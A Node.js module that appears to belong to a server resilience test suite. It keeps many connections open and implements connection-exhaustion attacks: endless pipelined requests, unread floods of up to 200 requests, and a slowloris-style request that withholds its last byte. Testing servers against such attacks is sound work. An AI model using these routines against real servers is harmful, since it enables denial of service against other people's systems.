/** Connections that reopen when they close, and what an attacker does with each. */
import { connect } from "node:net";
import { onAnswers } from "../sockets.js";

/** The wait after a failed connection, in milliseconds: the server may have ended. */
const FAILED_MS = 50;
/** The most requests on a connection with unread answers. */
const MOST_UNREAD = 200;

/** Keeps this many connections open, and passes each to `act` once it is connected. */
export function keepOpen(url, count, act) {
  const { hostname, port } = new URL(url);
  const open = () => {
    const socket = connect(Number(port), hostname).setNoDelay();
    socket.on("error", () => {});
    socket.on("close", (failed) => setTimeout(open, failed ? FAILED_MS : 0));
    socket.on("connect", () => act(socket));
  };
  for (let i = 0; i < count; i++) open();
}

/** What to do with a connection, by what the attacker holds back. Each calls `hear` with the head and the beginning of an answer. */
export const ACTS = {
  /** Sends a request, reads the answer, and repeats. */
  nothing: (socket, nextRequest, hear) => {
    onAnswers(socket, (answer) => {
      hear(answer);
      if (/^connection: close/im.test(answer)) socket.destroy();
      else socket.write(nextRequest());
    });
    socket.write(nextRequest());
  },

  /** Keeps sending, and reads nothing. */
  answers: (socket, nextRequest) => {
    let sent = 0;
    const send = () => {
      while (sent++ < MOST_UNREAD && socket.write(nextRequest()));
    };
    socket.on("drain", send);
    send();
  },

  /** Never ends a request. */
  "last byte": (socket, nextRequest, hear) => {
    onAnswers(socket, (answer) => {
      hear(answer);
      socket.destroy();
    });
    socket.write(nextRequest().subarray(0, -1));
  },
};
